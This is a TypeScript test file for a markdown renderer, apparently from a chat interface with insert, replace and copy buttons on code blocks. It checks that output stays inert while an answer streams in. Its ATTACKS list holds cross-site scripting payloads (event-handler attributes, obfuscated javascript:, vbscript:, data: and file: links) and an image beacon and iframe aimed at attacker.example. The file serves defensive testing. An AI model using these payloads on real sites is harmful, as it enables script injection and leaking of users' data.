import assert from "node:assert/strict";
import { test } from "node:test";

import { renderMarkdown } from "../src/markdown";

/** Everything that could run script or load something once the HTML is in the DOM. */
function assertInert(html: string): void {
  assert.doesNotMatch(html, /<script/i, html);
  assert.doesNotMatch(html, /<(img|iframe|object|embed|svg|math|style|link|meta|form|input|video|audio)\b/i, html);
  // An attribute only exists inside a real tag; escaped text has &lt; instead of <.
  for (const tag of html.match(/<[a-z][^>]*>/gi) ?? []) {
    assert.doesNotMatch(tag, /\son\w+\s*=/i, tag);
    assert.doesNotMatch(tag, /(href|src|action|formaction)\s*=\s*"\s*(javascript|vbscript|data|file):/i, tag);
  }
}

const ATTACKS = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  '<a href="javascript:alert(1)">x</a>',
  "[click](javascript:alert(1))",
  "[click](JaVaScRiPt:alert(1))",
  "[click](  javascript:alert(1))",
  "[click](java\tscript:alert(1))",
  "[click](&#106;avascript:alert(1))",
  "[click](vbscript:msgbox(1))",
  "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "[click](file:///etc/passwd)",
  "![x](http://attacker.example/leak?secret=1)",
  "![x](javascript:alert(1))",
  "<svg onload=alert(1)>",
  "<iframe src=\"https://attacker.example\"></iframe>",
  '<div onmouseover="alert(1)">hover</div>',
  "```\" onmouseover=\"alert(1)\nx\n```",
  "```<script>alert(1)</script>\ncode\n```",
  "``` js onclick=alert(1)\ncode\n```",
  "`<script>alert(1)</script>`",
  "    <script>indented code</script>",
  "<style>body{display:none}</style>",
  "[ref]\n\n[ref]: javascript:alert(1)",
  "<javascript:alert(1)>",
  "<http://ok.example/\" onclick=\"alert(1)>",
];

for (const attack of ATTACKS) {
  test(`inert: ${JSON.stringify(attack).slice(0, 60)}`, () => {
    assertInert(renderMarkdown(attack).html);
    // Also in the middle of a stream: an unfinished answer is rendered as it grows.
    for (let cut = 1; cut < attack.length; cut += 3) {
      assertInert(renderMarkdown(attack.slice(0, cut)).html);
    }
  });
}

test("raw HTML shows as text", () => {
  const { html } = renderMarkdown("<b>bold</b> & <script>x</script>");
  assert.match(html, /&lt;b&gt;bold&lt;\/b&gt; &amp; &lt;script&gt;x&lt;\/script&gt;/);
});

test("http(s) and mailto links survive with rel=noopener", () => {
  const { html } = renderMarkdown("[docs](https://example.org/a?b=1) [mail](mailto:a@b.c)");
  assert.match(html, /<a href="https:\/\/example\.org\/a\?b=1" rel="noopener noreferrer">docs<\/a>/);
  assert.match(html, /<a href="mailto:a@b\.c"/);
});

test("images are never loaded", () => {
  const { html } = renderMarkdown("![chart](https://example.org/chart.png)");
  assert.doesNotMatch(html, /<img/);
});

test("code blocks get buttons and keep their raw code", () => {
  const source = "Here:\n\n```python\ndef f(x):\n    return x < 1 and '<b>'\n```\n\nand\n\n```\nplain\n```\n";
  const { html, blocks } = renderMarkdown(source);
  assert.deepEqual(blocks, [
    { lang: "python", code: "def f(x):\n    return x < 1 and '<b>'\n" },
    { lang: "", code: "plain\n" },
  ]);
  for (const action of ["insert", "replace", "copy"]) {
    assert.match(html, new RegExp(`data-action="${action}" data-index="0"`));
    assert.match(html, new RegExp(`data-action="${action}" data-index="1"`));
  }
  assert.match(html, /return x &lt; 1 and '&lt;b&gt;'/);
  assert.match(html, /<code class="language-python">/);
});

test("an unterminated fence (mid-stream) is still one code block", () => {
  const { blocks } = renderMarkdown("Try:\n\n```js\nconst a = 1;\n");
  assert.equal(blocks.length, 1);
  assert.equal(blocks[0].lang, "js");
  assert.equal(blocks[0].code, "const a = 1;\n");
});

test("renders are independent", () => {
  renderMarkdown("```\na\n```");
  assert.equal(renderMarkdown("no code").blocks.length, 0);
});
